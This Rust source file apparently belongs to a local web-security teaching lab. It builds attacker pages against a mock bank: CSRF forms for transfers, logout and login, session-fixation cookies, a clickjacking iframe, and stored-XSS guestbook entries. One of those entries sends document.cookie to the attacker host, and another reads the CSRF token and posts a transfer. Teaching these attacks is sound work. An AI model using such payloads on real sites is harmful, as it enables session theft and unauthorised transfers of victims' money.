//! What the attacks' pages hold: forms, links, frames, cookies, and entries for the guestbook. A page shows its own.

use super::all::Attack;
use crate::{
    bank::Refused,
    books::{self, MALLORY, note},
    hosts::Hosts,
    lab::Lab,
};

/// The `Set-Cookie` of a page that plants an id.
pub struct Planted {
    pub name: &'static str,
    pub id: String,
    pub attributes: String,
}

impl Planted {
    pub fn line(&self) -> String {
        format!("{}={}{}", self.name, self.id, self.attributes)
    }

    /// Its `Domain` breaks the promise of such a name.
    pub fn is_refused(&self) -> bool {
        self.name.starts_with("__Host-")
    }
}

/// A sibling may set a cookie for all hosts of its site, and the one with the longer path goes first. Where the bank's
/// cookie is called `__Host-bank`, the page tries that name, and browsers refuse it.
pub fn plant(id: &str, lab: &mut Lab) -> Result<Option<Planted>, Refused> {
    let (id, path) = match id {
        // Mallory has opened the bank's log-in page, and copied the id.
        "planted-before-login" => (lab.sessions.begin(None)?.id, "/login"),
        // Mallory has logged in with her own password, and copied the id. One log-in is enough for all who come.
        "planted-account" => {
            let mut planted = lab.loot.planted.iter();
            let hers = planted.find(|id| lab.sessions.user_of(id) == Some(MALLORY)).cloned();
            let id = match hers {
                Some(id) => id,
                None => lab.sessions.begin(Some(MALLORY))?.id,
            };
            (id, "/account")
        }
        _ => return Ok(None),
    };
    note(&mut lab.loot.planted, id.clone());
    // For five minutes, so that nothing stays in your browser for long.
    let attributes = format!("; Domain=crumbs.localhost; Path={path}; Max-Age=300; Secure");
    Ok(Some(Planted { name: lab.defences.cookie_name(), id, attributes }))
}

/// What is in the page: the bait, and what it does. `post_alone`: the bank logs nobody out by `GET`.
pub fn lure(attack: &Attack, at: &Hosts, post_alone: bool) -> String {
    let bank = &at.bank;
    let amount = attack.amount.unwrap_or(0);
    let form = |path: &str, fields: &[(&str, &str)], button: &str| {
        let field = |(name, value): &(&str, &str)| {
            format!("  <input type=\"hidden\" name=\"{name}\" value=\"{value}\">\n")
        };
        let fields: String = fields.iter().map(field).collect();
        format!(
            "<form action=\"{bank}{path}\" method=\"post\">\n{fields}  <button id=\"lure\">{button}</button>\n</form>"
        )
    };
    let leave =
        "<form method=\"post\">\n  <button id=\"lure\">Leave it, and go there</button>\n</form>";
    match attack.id {
        "transfer-by-form" | "transfer-by-sibling" => {
            let fields = [("to", MALLORY), ("amount", &*amount.to_string())];
            form("/transfer", &fields, "Win a bicycle")
        }
        "logout-by-link" if post_alone => form("/logout", &[], "A funny picture"),
        "logout-by-link" => format!("<a id=\"lure\" href=\"{bank}/logout\">A funny picture</a>"),
        "logout-by-image" => {
            let asks = if post_alone {
                format!(
                    "<script>\n  const body = new URLSearchParams();\n  \
                     fetch(\"{bank}/logout\", {{ method: \"POST\", body, mode: \"no-cors\", credentials: \"include\" }});\n</script>"
                )
            } else {
                format!("<img src=\"{bank}/logout\" alt=\"\">")
            };
            format!("{asks}\n<a id=\"lure\" href=\"{bank}/\">On to the bank</a>")
        }
        "login-by-form" => {
            let password = books::password(MALLORY);
            form("/login", &[("name", MALLORY), ("password", password)], "Claim your voucher")
        }
        "planted-before-login" => {
            format!("<a id=\"lure\" href=\"{bank}/login\">Log in at the bank</a>")
        }
        "planted-account" => {
            format!("<a id=\"lure\" href=\"{bank}/account\">Your account at the bank</a>")
        }
        "framed-by-sibling" => format!(
            "<style>\n  #bait {{ position: relative; height: 5rem; }}\n  #lure {{ position: absolute; left: 2.25rem; top: 0; }}\n  \
             #unseen {{ position: absolute; left: 0; top: 0; width: 18rem; height: 5rem; border: 0; opacity: 0; }}\n  \
             #show:checked ~ #bait #unseen {{ opacity: .8; }}\n</style>\n\
             <input type=\"checkbox\" id=\"show\"> <label for=\"show\">Show what lies over it</label>\n\
             <div id=\"bait\">\n  <button id=\"lure\" type=\"button\">Win</button>\n  \
             <iframe id=\"unseen\" title=\"the bank\" scrolling=\"no\"\n    \
             src=\"{bank}/?to=mallory&amp;amount={amount}#send\"></iframe>\n</div>"
        ),
        "withheld" => format!(
            "<img src=\"{bank}/logout\" alt=\"\">\n<iframe src=\"{bank}/\" title=\"the bank\" hidden></iframe>\n\
             <a id=\"lure\" href=\"{}/\">On to Attacks</a>",
            at.attacker
        ),
        "script-takes-cookie" | "script-transfers" | "form-in-entry" => leave.to_owned(),
        "cache-gives-login" => format!(
            "<ol>\n  <li>Log out of <a href=\"{0}/\">the bank, by the cache</a>, if you are logged in there.</li>\n  \
             <li>There, follow <em>My statement</em>: nobody is logged in, and a session begins.</li>\n  \
             <li>There, log in as ada.</li>\n  <li>Now somebody else comes, within a minute:</li>\n</ol>\n\
             <form method=\"post\">\n  <button id=\"lure\">Be the next visitor</button>\n</form>",
            at.cache
        ),
        _ => format!(
            "<ol>\n  <li>At <a id=\"lure\" href=\"{bank}/\">the bank</a>, log in as ada and follow <em>My statement</em>.</li>\n  \
             <li>Go to the bank's first page, and log out.</li>\n  \
             <li>Log in as bob, and follow <em>My statement</em>, within a minute.</li>\n</ol>"
        ),
    }
}

/// What Mallory writes into the guestbook.
pub fn entry(attack: &Attack, at: &Hosts) -> Option<String> {
    let amount = attack.amount.unwrap_or(0);
    Some(match attack.id {
        "script-takes-cookie" => format!(
            "Nice bank! <script>new Image().src = \"{}/take?cookie=\" + encodeURIComponent(document.cookie)</script>",
            at.attacker
        ),
        "script-transfers" => format!(
            "Nice bank! <script>\nfetch(\"/\").then(answer => answer.text()).then(page => {{\n  \
             const token = page.match(/name=\"token\" value=\"(.*?)\"/)?.[1] ?? \"\";\n  \
             const body = new URLSearchParams({{ to: \"mallory\", amount: \"{amount}\", token }});\n  \
             fetch(\"/transfer\", {{ method: \"POST\", body }});\n}});\n</script>"
        ),
        "form-in-entry" => format!(
            "Nice bank! <form action=\"/transfer\" method=\"post\"><input type=\"hidden\" name=\"to\" value=\"mallory\">\
             <input type=\"hidden\" name=\"amount\" value=\"{amount}\"><button id=\"read-on\">Read on</button></form>"
        ),
        _ => return None,
    })
}
